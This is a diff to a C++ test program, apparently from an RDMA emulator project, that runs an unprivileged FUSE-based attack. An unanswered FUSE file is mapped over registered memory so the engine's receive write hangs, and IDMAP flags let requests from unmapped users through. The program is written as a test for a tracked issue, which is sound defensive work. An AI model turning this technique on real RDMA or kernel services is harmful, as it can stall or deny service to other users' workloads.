@@ -1,6 +1,6 @@
 // Issue 40, item 1: memory whose pages a user's FUSE daemon serves, under an MR. Run as
 // an unprivileged user:
-//   fuse_memory_attack DEVICE MOUNT_DIR
+//   fuse_memory_attack DEVICE MOUNT_DIR [swap]
 // A child enters a user and mount namespace of its own, mounts a FUSE filesystem of its
 // own making on MOUNT_DIR (straight through /dev/fuse) and serves it: one 64 KiB file,
 // whose READ it never answers. It hands the open file to the parent (SCM_RIGHTS), which
@@ -27,6 +27,7 @@
 #include "raw_migrate_id.hpp"
 #include "softhca/device_interface/socket_io.hpp"
 
+#include <chrono>
 #include <csignal>
 #include <cstdint>
 #include <cstdio>
@@ -75,17 +76,26 @@ pid_t thread_group(pid_t thread) {
 }
 
 // The FUSE protocol (include/uapi/linux/fuse.h), the least a mount and an open need.
+// FUSE_ALLOW_IDMAP (Linux 6.12, after Debian 12's headers): bit 40 of the INIT flags, 8 of
+// flags2. A daemon that answers with it gets requests from users its namespace does not
+// map (root's, the engine's among them); without it the kernel refuses them (EOVERFLOW).
+constexpr uint32_t kAllowIdmap2 = 1u << (40 - 32);
+
 class FuseDaemon {
   public:
-    explicit FuseDaemon(int fd) : fd_(fd) {}
+    FuseDaemon(int fd, bool allow_idmap) : fd_(fd), allow_idmap_(allow_idmap) {}
     void serve() {
         std::vector<char> buffer(FUSE_MIN_READ_BUFFER + 128 * 1024);
         for (;;) {
             const ssize_t n = ::read(fd_, buffer.data(), buffer.size());
             if (n < 0 && (errno == EINTR || errno == ENOENT || errno == EAGAIN))
                 continue;
+            if (n < 0 && errno == ENODEV) {
+                std::fprintf(stderr, "fuse: connection aborted\n");
+                return;
+            }
             if (n < static_cast<ssize_t>(sizeof(fuse_in_header)))
-                return; // unmounted (ENODEV) or broken
+                return; // broken
             const auto* in = reinterpret_cast<const fuse_in_header*>(buffer.data());
             handle(*in, buffer.data() + sizeof(fuse_in_header));
         }
@@ -123,6 +133,11 @@ class FuseDaemon {
             out.minor = FUSE_KERNEL_MINOR_VERSION;
             out.max_readahead = init->max_readahead;
             out.max_write = 4096;
+            if (allow_idmap_ && (init->flags & FUSE_INIT_EXT) && (init->flags2 & kAllowIdmap2)) {
+                out.flags = FUSE_INIT_EXT;
+                out.flags2 = kAllowIdmap2;
+                std::fprintf(stderr, "fuse: requests of unmapped users allowed\n");
+            }
             reply(in.unique, 0, &out, sizeof(out));
             return;
         }
@@ -170,10 +185,11 @@ class FuseDaemon {
         }
     }
     int fd_;
+    bool allow_idmap_;
 };
 
 // The child: its own namespaces, the mount, the daemon; the open file goes to `channel`.
-[[noreturn]] void run_filesystem(const char* mount_dir, int channel) {
+[[noreturn]] void run_filesystem(const char* mount_dir, int channel, bool allow_idmap) {
     const uid_t uid = ::getuid();
     const gid_t gid = ::getgid();
     if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
@@ -189,11 +205,13 @@ class FuseDaemon {
     const int fuse = ::open("/dev/fuse", O_RDWR | O_CLOEXEC);
     if (fuse < 0)
         attack::die("open /dev/fuse");
-    const std::string options =
-        "fd=" + std::to_string(fuse) + ",rootmode=40000,user_id=0,group_id=0";
+    // Unmapped users' requests need the kernel's own permission checks (default_permissions).
+    const std::string options = "fd=" + std::to_string(fuse) +
+                                ",rootmode=40000,user_id=0,group_id=0" +
+                                (allow_idmap ? ",default_permissions" : "");
     if (::mount("softhca-attack", mount_dir, "fuse", MS_NOSUID | MS_NODEV, options.c_str()) != 0)
         attack::die("mount fuse");
-    FuseDaemon daemon(fuse);
+    FuseDaemon daemon(fuse, allow_idmap);
     std::thread server([&daemon] { daemon.serve(); });
     const int file = ::open((std::string(mount_dir) + "/file").c_str(), O_RDWR);
     if (file < 0)
@@ -241,11 +259,81 @@ void write_from(const attack::Side& side, ibv_mr* source) {
         attack::die("post the WRITE");
 }
 
+// The file mapped over registered memory afterwards (the "swap" mode): 64 KiB of
+// anonymous memory registered as a receive buffer, the FUSE file mapped over it
+// privately (MAP_FIXED), and a 64 KiB SEND into it from another QP of the same context.
+// The engine writes the received bytes there, and the write asks the daemon for the
+// page first. Printed: "swapped: receive STATUS after N ms", or "swapped: no completion"
+// after 20 s.
+void swap_and_receive(const attack::Side& side, int file) {
+    const int access = IBV_ACCESS_LOCAL_WRITE;
+    void* target = ::mmap(nullptr, kFileSize, PROT_READ | PROT_WRITE,
+                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+    void* source = ::mmap(nullptr, kFileSize, PROT_READ | PROT_WRITE,
+                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+    if (target == MAP_FAILED || source == MAP_FAILED)
+        attack::die("map anonymous memory");
+    ibv_mr* target_mr = ibv_reg_mr(side.pd, target, kFileSize, access);
+    ibv_mr* source_mr = ibv_reg_mr(side.pd, source, kFileSize, access);
+    if (!target_mr || !source_mr)
+        attack::die("register anonymous memory");
+    if (::mmap(target, kFileSize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_FIXED, file, 0) !=
+        target)
+        attack::die("map the FUSE file over the registered memory");
+    ibv_qp* receiver = attack::make_qp(side);
+    ibv_qp* sender = attack::make_qp(side);
+    attack::connect_qp(receiver, sender->qp_num, side.gid);
+    attack::connect_qp(sender, receiver->qp_num, side.gid);
+    ibv_sge target_sge{reinterpret_cast<uint64_t>(target), static_cast<uint32_t>(kFileSize),
+                       target_mr->lkey};
+    ibv_recv_wr receive{};
+    ibv_recv_wr* bad_receive = nullptr;
+    receive.wr_id = 1;
+    receive.sg_list = &target_sge;
+    receive.num_sge = 1;
+    if (ibv_post_recv(receiver, &receive, &bad_receive) != 0)
+        attack::die("post the receive");
+    ibv_sge source_sge{reinterpret_cast<uint64_t>(source), static_cast<uint32_t>(kFileSize),
+                       source_mr->lkey};
+    ibv_send_wr send{};
+    ibv_send_wr* bad_send = nullptr;
+    send.wr_id = 2;
+    send.sg_list = &source_sge;
+    send.num_sge = 1;
+    send.opcode = IBV_WR_SEND;
+    send.send_flags = IBV_SEND_SIGNALED;
+    const auto posted = std::chrono::steady_clock::now();
+    if (ibv_post_send(sender, &send, &bad_send) != 0)
+        attack::die("post the SEND");
+    std::printf("swapped: posted\n");
+    std::fflush(stdout);
+    while (std::chrono::steady_clock::now() - posted < std::chrono::seconds(20)) {
+        ibv_wc wc{};
+        const int n = ibv_poll_cq(side.cq, 1, &wc);
+        if (n < 0)
+            attack::die("poll the CQ");
+        if (n == 0) {
+            ::usleep(1000);
+            continue;
+        }
+        if (wc.wr_id != 1)
+            continue;
+        const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
+                            std::chrono::steady_clock::now() - posted)
+                            .count();
+        std::printf("swapped: receive %s after %lld ms\n", ibv_wc_status_str(wc.status),
+                    static_cast<long long>(ms));
+        return;
+    }
+    std::printf("swapped: no completion\n");
+}
+
 } // namespace
 
 int main(int argc, char** argv) {
-    if (argc != 3) {
-        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR\n", argv[0]);
+    const bool swap = argc == 4 && std::strcmp(argv[3], "swap") == 0;
+    if (argc != 3 && !swap) {
+        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR [swap]\n", argv[0]);
         return 2;
     }
     int channel[2];
@@ -256,7 +344,7 @@ int main(int argc, char** argv) {
         attack::die("fork");
     if (child == 0) {
         ::close(channel[0]);
-        run_filesystem(argv[2], channel[1]);
+        run_filesystem(argv[2], channel[1], swap);
     }
     ::close(channel[1]);
     // The daemon is killed after this program when the test ends (by this PID): this
@@ -265,6 +353,13 @@ int main(int argc, char** argv) {
     std::fflush(stdout);
     const int file = receive_file(channel[0]);
     const attack::Side side = attack::open_side(argv[1]);
+    if (swap) {
+        swap_and_receive(side, file);
+        std::printf("holding\n");
+        std::fflush(stdout);
+        for (;;)
+            ::pause();
+    }
     const int access = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ;
     for (const int sharing : {MAP_PRIVATE, MAP_SHARED}) {
         const char* name = sharing == MAP_PRIVATE ? "private" : "shared";
